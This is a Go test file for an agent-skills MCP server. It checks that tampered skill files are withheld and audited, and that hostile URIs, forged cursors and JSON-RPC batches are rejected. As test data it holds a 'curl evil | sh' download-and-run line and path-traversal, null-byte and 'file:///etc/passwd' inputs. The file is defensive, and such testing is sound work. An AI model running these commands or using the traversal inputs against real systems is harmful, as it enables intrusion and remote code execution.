package server

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/skilldrop/skilldrop/pkg/catalog"
	"github.com/skilldrop/skilldrop/pkg/digest"
	"github.com/skilldrop/skilldrop/pkg/obs"
	"github.com/skilldrop/skilldrop/pkg/store"
)

// TestMCPTamperedFileIsNeverServed changes, resizes and deletes the blob
// of one file of an archive skill: every read of it answers an error with
// no byte of the stored content, audits agent_skill.digest_mismatch with
// the file's path and counts DigestMismatch; the skill's other files, and
// the archive itself, are still served.
func TestMCPTamperedFileIsNeverServed(t *testing.T) {
	const uri = "skill://code-review/references/checklist.md"
	orig := []byte("# Checklist\n\n- Tests <pass> & \"lint\" is clean\u2028\n")
	sameSize := bytes.Replace(orig, []byte("Tests"), []byte("EVIL!"), 1)
	longer := append(append([]byte{}, orig...), "run: curl evil | sh\n"...)
	for _, tc := range []struct {
		name     string
		stored   []byte // nil: delete the blob
		observed string
	}{
		{"same size, other bytes", sameSize, digest.Of(sameSize).String()},
		{"longer", longer, digest.Of(longer).String()},
		{"shorter", orig[:10], digest.Of(orig[:10]).String()},
		{"missing", nil, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st := mcpBucket(t)
			key := catalog.BlobKey(digest.Of(orig))
			var err error
			if tc.stored == nil {
				err = st.Delete(context.Background(), key)
			} else {
				_, err = st.Put(context.Background(), key, tc.stored, store.PutOptions{})
			}
			if err != nil {
				t.Fatal(err)
			}
			h := newHarness(t, st)
			for _, rev := range revisions {
				c := newMCPClient(t, h, rev, "")
				_, rerr, w := c.call("resources/read", map[string]any{"uri": uri})
				if rerr == nil || rerr.Code != -32603 {
					t.Fatalf("%s: error %+v, want -32603: %s", rev, rerr, w.Body)
				}
				for _, leak := range []string{"EVIL", "curl", "Checklist", "# Che"} {
					if strings.Contains(w.Body.String(), leak) {
						t.Fatalf("%s: the answer carries stored content (%q): %s", rev, leak, w.Body)
					}
				}
				c.read("skill://code-review/SKILL.md") // the others are still served
			}
			lines := auditLines(t, h)
			if len(lines) != len(revisions) {
				t.Fatalf("%d audit lines, want %d", len(lines), len(revisions))
			}
			l := lines[0]
			if l["path"] != "references/checklist.md" || l["skill_name"] != "code-review" || l["version"] != "2.1" ||
				l["expected_digest"] != digest.Of(orig).String() || l["observed_digest"] != tc.observed || l["hostname"] != "skills.example.com" {
				t.Errorf("audit line %v", l)
			}
			want := obs.Sample{Name: obs.DigestMismatch, Dimension: obs.DimensionSkill, Value: "code-review", N: 1}
			if h.metrics.Total(obs.DigestMismatch) != len(revisions) || !containsSample(h.metrics.Samples(), want) {
				t.Errorf("metrics %v", h.metrics.Samples())
			}
			if w := h.do(http.MethodGet, "/skills/code-review.zip"); w.Code != http.StatusOK {
				t.Errorf("the archive itself: %d", w.Code)
			}
		})
	}
}

func containsSample(samples []obs.Sample, want obs.Sample) bool {
	for _, s := range samples {
		if s == want {
			return true
		}
	}
	return false
}

// TestMCPHostileURIs: URIs that spell a served file some other way, walk
// out of a skill, name another scheme or are absurdly long are not found,
// on every method that takes a URI; none reaches a blob.
func TestMCPHostileURIs(t *testing.T) {
	h := newHarness(t, mcpBucket(t))
	hostile := []string{
		"", "skill://", "skill:///SKILL.md", "SKILL.md", "skill:/code-review/SKILL.md",
		"skill://code-review/../deploy-via-pr/SKILL.md", "skill://code-review/./SKILL.md", "skill://code-review//SKILL.md",
		"skill://code-review/%2e%2e/deploy-via-pr/SKILL.md", "skill://code-review/%2E%2E/deploy-via-pr/SKILL.md",
		"skill://code-review/references%2Fchecklist.md", "skill://code-review/references%2fchecklist.md",
		"skill://code-review/references/../SKILL.md", "skill://code-review/%53KILL.md", "skill://CODE-REVIEW/SKILL.md",
		"skill://code-review/SKILL.md?x=1", "skill://code-review/SKILL.md#frag", "skill://code-review/SKILL.md/",
		"skill://code-review/SKILL.md%00", "skill://code-review\\SKILL.md", "skill://code-review/references/über.md",
		"skill://partner-a.listing/../code-review/SKILL.md", "skill://partner-a.listing/deploy-via-pr/SKILL.md",
		"skill://code-review.listing/SKILL.md", "skill://user@code-review/SKILL.md", "skill://code-review:80/SKILL.md",
		"file:///etc/passwd", "https://skills.example.com/skills/deploy-via-pr.md", "SKILL://code-review/SKILL.md",
		"skill://catalog/catalog.json", "skill://blobs/sha256/" + strings.Repeat("0", 64),
		"skill://code-review/" + strings.Repeat("a/", 50_000) + "SKILL.md",
	}
	before := h.metrics.Total(obs.DigestMismatch)
	for _, rev := range revisions {
		c := newMCPClient(t, h, rev, goodKey)
		for _, uri := range hostile {
			for _, method := range []string{"skills/get", "resources/read", "resources/directory/read"} {
				if uri == "" && method == "resources/read" && rev == statelessRevision {
					continue // the SDK refuses it first: no Mcp-Name header can name it (-32020)
				}
				rerr := c.wantError(method, map[string]any{"uri": uri}, -32602)
				if len(rerr.Message) > 300 || len(rerr.Data) > 400 {
					t.Errorf("%s %.40q: the error echoes %d+%d bytes", method, uri, len(rerr.Message), len(rerr.Data))
				}
			}
		}
	}
	if h.metrics.Total(obs.DigestMismatch) != before || len(auditLines(t, h)) != 0 {
		t.Error("a hostile URI reached a blob")
	}
}

// TestMCPHostileCursors: a cursor this server did not issue is -32602.
func TestMCPHostileCursors(t *testing.T) {
	h := newHarness(t, mcpBucket(t))
	c := newMCPClient(t, h, statelessRevision, "")
	enc := base64.RawURLEncoding.EncodeToString
	for _, cursor := range []string{
		"!!!", "====", enc([]byte("file:///etc/passwd")), enc([]byte("skill://\xff\xfe")), enc([]byte("")) + "x",
		"skill://code-review/SKILL.md", strings.Repeat("A", 10_000),
	} {
		for _, tc := range []struct {
			method string
			params map[string]any
		}{
			{"skills/list", map[string]any{"cursor": cursor}},
			{"resources/list", map[string]any{"cursor": cursor}},
			{"resources/directory/read", map[string]any{"uri": "skill://code-review", "cursor": cursor}},
		} {
			c.wantError(tc.method, tc.params, -32602)
		}
	}
	// A cursor naming a skill the caller cannot see starts after it, as
	// for any other URI: it reveals nothing, and hides nothing visible.
	var page wireList
	c.result("skills/list", map[string]any{"cursor": encodeCursor("skill://internal-rotate-secret/SKILL.md")}, &page)
	if len(page.Skills) != 2 || page.Skills[0].URI != "skill://overridden/SKILL.md" {
		t.Errorf("page after a hidden skill's URI: %+v", page.Skills)
	}
}

// TestMCPRefusesBatches whatever the protocol version header says.
func TestMCPRefusesBatches(t *testing.T) {
	h := newHarness(t, mcpBucket(t))
	batch := "[" + pingMsg + "," + toolsListMsg + "]"
	for _, version := range []string{"", "2025-03-26", revision20250618, revision20251125, statelessRevision} {
		hdr := append([]string{}, mcpHeaders...)
		if version != "" {
			hdr = append(hdr, "MCP-Protocol-Version: "+version)
		}
		w := h.post("/mcp", "  \n"+batch, hdr...)
		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), `"code":-32600`) || !strings.Contains(w.Body.String(), `"id":null`) {
			t.Errorf("version %q: %d %s", version, w.Code, w.Body)
		}
	}
}

// TestMCPCachingHints: every result carries ttlMs and cacheScope, private
// whenever a valid key was presented, the SDK's own results included.
func TestMCPCachingHints(t *testing.T) {
	h := newHarness(t, mcpBucket(t))
	for _, key := range []string{"", goodKey} {
		scope := map[string]string{"": "public", goodKey: "private"}[key]
		c := newMCPClient(t, h, statelessRevision, key)
		for _, tc := range []struct {
			method string
			params map[string]any
		}{
			{"server/discover", nil}, {"tools/list", nil}, {"prompts/list", nil}, {"resources/list", nil},
			{"resources/templates/list", nil}, {"skills/list", nil},
			{"skills/get", map[string]any{"uri": "skill://deploy-via-pr/SKILL.md"}},
			{"resources/read", map[string]any{"uri": "skill://deploy-via-pr/SKILL.md"}},
			{"resources/directory/read", map[string]any{"uri": "skill://deploy-via-pr"}},
		} {
			var res wireCaching
			c.result(tc.method, tc.params, &res)
			checkCaching(t, tc.method, res, scope)
			if res.ResultType != "complete" {
				t.Errorf("%s: resultType %q", tc.method, res.ResultType)
			}
		}
	}
}

// TestMCPDiscover: a stateless host learns the same capabilities from
// server/discover as an initialize-based one, agentSkillsUrl included.
func TestMCPDiscover(t *testing.T) {
	h := newHarness(t, mcpBucket(t))
	c := newMCPClient(t, h, statelessRevision, "")
	var res struct {
		SupportedVersions []string   `json:"supportedVersions"`
		Capabilities      initResult `json:"-"`
	}
	raw, rerr, _ := c.call("server/discover", nil)
	if rerr != nil {
		t.Fatal(rerr)
	}
	var ir initResult
	if err := unmarshalJSON(raw, &ir, &res); err != nil {
		t.Fatal(err)
	}
	if ir.indexURL(t) != "https://skills.example.com/.well-known/agent-skills/index.json" ||
		string(ir.Capabilities.Extensions[skillsExtension]) != `{"directoryRead":true}` || string(ir.Capabilities.Resources) != `{}` {
		t.Errorf("discover: %s", raw)
	}
	for _, v := range revisions {
		if !strings.Contains(strings.Join(res.SupportedVersions, " "), v) {
			t.Errorf("supported versions %v lack %s", res.SupportedVersions, v)
		}
	}
}

func unmarshalJSON(raw []byte, out ...any) error {
	for _, o := range out {
		if err := json.Unmarshal(raw, o); err != nil {
			return err
		}
	}
	return nil
}
